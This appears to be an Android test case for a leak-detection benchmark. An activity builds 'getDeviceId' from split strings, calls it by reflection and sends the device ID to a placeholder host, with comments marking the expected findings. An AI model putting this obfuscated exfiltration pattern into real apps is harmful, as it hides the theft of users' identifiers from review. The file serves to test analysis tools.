package thieves;

import android.app.Activity;
import android.content.*;
import android.os.*;
import android.provider.Settings;
import android.telephony.TelephonyManager;

import java.io.*;
import java.net.*;
import java.util.*;

/** Names split in pieces, a list of reflected calls, a URL by format. */
public class Chain extends Activity {
    static final String[][] CALLS = {{"get", "Device", "Id"}, {"get", "Phone", "Type"}};

    static String call(Object on, String[] parts) throws Exception {
        StringBuilder b = new StringBuilder();
        for (String p : parts) b.append(p);
        return String.valueOf(on.getClass().getMethod(b.toString()).invoke(on));
    }

    @Override
    protected void onCreate(Bundle s) {
        super.onCreate(s);
        final TelephonyManager t = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        new AsyncTask<String, Void, Void>() {
            @Override
            protected Void doInBackground(String... hosts) {
                try {
                    Locale l = Locale.US;
                    URL one = new URL(String.format(l, "http://%s/%s.php?i=%s&v=%d", hosts[0], "reg", call(t, CALLS[0]), 3));
                    one.openConnection().getInputStream().close(); // one that is not seen: a loop puts the name together
                    URL two = new URL(String.format(l, "http://%s/%s.php?k=%s", hosts[0], "kind", call(t, CALLS[1])));
                    two.openConnection().getInputStream().close(); // no leak
                } catch (Exception e) {
                    e.printStackTrace();
                }
                return null;
            }
        }.execute("q.example.org");
    }
}
